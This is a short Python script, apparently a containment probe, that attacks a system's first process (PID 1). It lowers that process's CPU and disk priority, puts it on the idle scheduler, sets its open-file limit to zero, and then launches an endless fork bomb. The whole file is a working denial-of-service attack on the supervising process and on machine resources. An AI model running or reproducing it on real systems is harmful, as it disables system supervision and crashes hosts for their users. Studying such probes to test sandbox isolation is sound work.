"""Takes the processor away from its supervisor: lowest priority, another processor, and then much to do."""

import ctypes
import os

from attempt import call, held

held("the first process' priority", os.setpriority, os.PRIO_PROCESS, 1, 19)
held("the first process' group's priority", os.setpriority, os.PRIO_PGRP, 1, 19)
held("the first process' user's priority", os.setpriority, os.PRIO_USER, 0, 19)
held("the first process' scheduler", os.sched_setscheduler, 1, os.SCHED_IDLE, os.sched_param(0))
held("the first process' processors", os.sched_setaffinity, 1, os.sched_getaffinity(0))
held("the first process' disk priority", call, "ioprio_set", 1, 1, 3 << 13)
held("the first process' user's disk priority", call, "ioprio_set", 3, os.getuid(), 3 << 13)
held("the first process' limits", call, "prlimit64", 1, 7, (ctypes.c_ulong * 2)(0, 0), 0)
print("done", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
